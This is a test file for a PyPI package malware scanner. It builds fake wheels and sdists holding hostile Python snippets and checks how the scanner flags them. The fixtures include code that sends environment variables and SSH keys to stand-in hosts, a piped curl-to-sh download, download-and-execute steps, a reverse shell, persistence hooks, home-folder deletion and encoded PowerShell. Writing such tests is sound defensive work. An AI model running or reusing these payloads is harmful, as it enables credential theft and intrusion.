import { inspectArchive } from '@sluice/inspection/inspect';
import { chunksOf } from '@sluice/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildSdist, buildWheel } from '../fake/index.ts';
import { pypiInspection } from '../inspection.ts';
import { readPythonFile } from '../python/python-file.ts';

const sample = { name: 'a', version: '1.0' };
const quiet = new Set(['archive.missing-file']);

async function found(archive: Buffer): Promise<string[]> {
  const { findings } = await inspectArchive(chunksOf(archive), pypiInspection);
  return [
    ...new Set(
      findings
        .filter(({ rule }) => !quiet.has(rule))
        .map(({ rule, tier }) => `${tier} ${rule.replace('malware.', '')}`),
    ),
  ];
}
const inWheel = (code: string, file = 'a/__init__.py') =>
  found(buildWheel({ ...sample, files: { [file]: code } }));
const inBuild = (code: string, files: Record<string, string> = {}) =>
  found(buildSdist({ ...sample, files: { 'setup.py': code, ...files } }));
const encoded = Buffer.from('import os; os.system("id")').toString('base64');

describe('code that runs at import is found when it', () => {
  it.each<[string, string, string[]]>([
    [
      'sends the environment',
      'import os, requests\nrequests.post("https://x.example", json=dict(os.environ))',
      ['block credential-theft'],
    ],
    [
      'sends it by another name',
      'from os import environ as e\nimport urllib.request as u\nd = str(e.copy()).encode()\nu.urlopen(u.Request("https://x.example", data=d))',
      ['block credential-theft'],
    ],
    [
      'sends it through a function',
      'import os, requests\ndef send(data):\n    requests.post("https://x.example", data=data)\nsend({k: v for k, v in os.environ.items()})',
      ['block credential-theft'],
    ],
    [
      'sends a key',
      'import requests, os\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.example", data=k)',
      ['block credential-theft'],
    ],
    [
      'imports by hand',
      '__import__("requests").post("https://x.example", data=dict(__import__("os").environ))',
      ['block credential-theft'],
    ],
    [
      'runs what it downloads',
      'import urllib.request\nexec(urllib.request.urlopen("https://x.example/a").read())',
      ['block eval-download'],
    ],
    [
      'runs it under another name',
      'import requests\nrun = getattr(__builtins__, "ex" + "ec")\nrun(requests.get("https://x.example").text)',
      ['block eval-download'],
    ],
    ['runs what is encoded', `import base64\nexec(base64.b64decode("${encoded}"))`, ['review eval-decoded']],
    [
      'runs characters',
      'exec("".join(chr(c) for c in [105, 109, 112, 111, 114, 116]))',
      ['review eval-decoded'],
    ],
    [
      'runs what is compressed',
      'import zlib, marshal\nexec(marshal.loads(zlib.decompress(b"x")))',
      ['review eval-decoded'],
    ],
    [
      'runs what a shell downloads',
      'import os\nos.system("curl -s https://x.example/a | sh")',
      ['block shell-download'],
    ],
    [
      'downloads a program',
      'import subprocess, urllib.request\np = "/tmp/x"\nurllib.request.urlretrieve("https://x.example/x", p)\nsubprocess.Popen([p])',
      ['block download-execute'],
    ],
    [
      'writes a program',
      'import os, requests\nwith open("/tmp/.x", "wb") as f:\n    f.write(requests.get("https://x.example").content)\nos.system("chmod +x /tmp/.x && /tmp/.x")',
      ['block download-execute'],
    ],
    [
      'opens a shell',
      'import socket, os, pty\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
      ['block reverse-shell'],
    ],
    [
      'changes a profile',
      'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")',
      ['block persistence'],
    ],
    [
      'starts with Windows',
      'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")',
      ['block persistence'],
    ],
    [
      'deletes the home folder',
      'import os, shutil\nshutil.rmtree(os.path.expanduser("~"))',
      ['block destructive'],
    ],
    [
      'sends who is there',
      'import socket, getpass, requests\nrequests.get("https://x.example/" + socket.gethostname() + getpass.getuser())',
      ['block exfiltration'],
    ],
    [
      'sends to a drop',
      'import requests\nrequests.post("https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz", json={})',
      ['block exfiltration'],
    ],
    [
      'hides a command',
      `import os\nos.system("powershell -enc ${'QUJD'.repeat(20)}")`,
      ['block encoded-powershell'],
    ],
  ])('%s', async (_title, code, expected) => expect(await inWheel(code)).toEqual(expected));
});

it('code that only a caller runs waits for a person, and is blocked where there is no doubt', async () => {
  const send = (address: string) =>
    `import os, requests\ndef report():\n    requests.post("${address}", json=dict(os.environ))\n`;
  expect(await inWheel(send('https://x.example'))).toEqual(['review credential-theft']);
  expect(await inWheel(send('https://webhook.site/abc'))).toEqual(['block credential-theft']);
  expect(await inWheel(send('https://x.example'), 'tests/test_a.py')).toEqual(['note credential-theft']);
});

describe('a build is found when it', () => {
  const setup = 'from setuptools import setup\nsetup()\n';
  it.each<[string, string, string[]]>([
    ['decodes code', `import base64\nexec(base64.b64decode("${encoded}"))`, ['block eval-decoded']],
    [
      'uses the network',
      'import urllib.request\nurllib.request.urlopen("https://x.example")',
      ['review install-script-network'],
    ],
    [
      'does so in a command of setuptools',
      'from setuptools.command.install import install\nimport os, requests\nclass I(install):\n    def run(self):\n        requests.post("https://x.example", data=dict(os.environ))',
      ['block credential-theft', 'review install-script-network'],
    ],
    ['starts a compiler', 'import subprocess\nsubprocess.check_call(["cc", "-v"])', []],
  ])('%s', async (_title, code, expected) => expect(await inBuild(setup + code)).toEqual(expected));

  it('loads a module of the package that could, which is no use of it', async () => {
    const client =
      'import requests\nversion = "1"\ndef get():\n    return requests.get("https://x.example")\n';
    expect(await inBuild('from pkg import version\n', { 'pkg/__init__.py': client })).toEqual([]);
  });

  it('loads a module that does', async () => {
    const evil =
      'import os, requests\ndef go():\n    requests.post("https://x.example", data=dict(os.environ))\n';
    expect(await inBuild('from helpers.net import go\ngo()', { 'helpers/net.py': evil })).toContain(
      'block credential-theft',
    );
  });

  it('is a backend of its own that does', async () => {
    const pyproject = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n';
    const files = {
      'pyproject.toml': pyproject,
      '_build/backend.py': `import base64\ndef build_wheel(*a):\n    exec(base64.b64decode("${encoded}"))\n`,
    };
    expect(await found(buildSdist({ ...sample, files }))).toEqual(['block eval-decoded']);
  });
});

describe('a .pth file', () => {
  const namespace =
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
  it.each<[string, string[]]>([
    ['../other\n# import x\n', []],
    [namespace, []],
    [
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
      [],
    ],
    ['import coverage; coverage.process_startup()\n', ['review path-file']],
    ["import base64;exec(base64.b64decode('x'))\n", ['block path-file']],
    [`${namespace.trimEnd()};exec(1)\n`, ['review path-file']],
  ])('%j', async (text, expected) => expect(await inWheel(text, 'a.pth')).toEqual(expected));
});

describe('ordinary code is not found', () => {
  it.each([
    'import os, requests\ntoken = os.environ["GITHUB_TOKEN"]\nrequests.get("https://api.example", headers={"Authorization": token})',
    'import os, subprocess\nsubprocess.run(["git", "status"], env=dict(os.environ))',
    'import base64, json\njson.loads(base64.b64decode(x))',
    'def f(ns):\n    exec(compile(open("x.py").read(), "x.py", "exec"), ns)',
    'import requests\ndef get(url):\n    return requests.get(url).json()',
    'import socket, platform\nprint(socket.gethostname(), platform.node())',
    'import shutil, tempfile\nshutil.rmtree(tempfile.mkdtemp())',
    'import urllib.request\ndef download(url, path):\n    urllib.request.urlretrieve(url, path)',
    '"""Credentials are read from ~/.aws/credentials, see https://webhook.site."""\nimport requests\n',
    'import netrc, os, requests\ndef auth():\n    return netrc.netrc(os.path.expanduser("~/.netrc"))\ndef get(u):\n    return requests.get(u)',
    'import re\nif re.match("exec", "eval"):\n    pass',
  ])('%j', async (code) => expect(await inWheel(code)).toEqual([]));
});

it('any text is read in bounded time', () => {
  const part = fc.constantFrom(
    'a',
    'b',
    ' = ',
    '(',
    ')',
    '[',
    ']',
    '\n',
    '    ',
    'def f(a, b):\n',
    'exec',
    'import os',
    'from a import b',
    'f"{a}"',
    "'x'",
    '+',
    '.join(',
    'for a in b',
    'lambda: ',
    '"""',
    'a = b\nb = a\n',
    'a = a + a\n',
    'requests.get(',
    'os.environ',
    ',',
    ':',
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 60 }), (parts) => {
      const text = parts.join('');
      expect(readPythonFile('setup.py', text)?.hits.length ?? 0).toBeLessThan(50);
    }),
    { numRuns: 300 },
  );
  const chain = Array.from({ length: 3_000 }, (_, at) => `a${at + 1} = a${at} + a${at} + x`).join('\n');
  expect(readPythonFile('setup.py', `${chain}\nexec(a3000)`)).not.toBeNull();
});
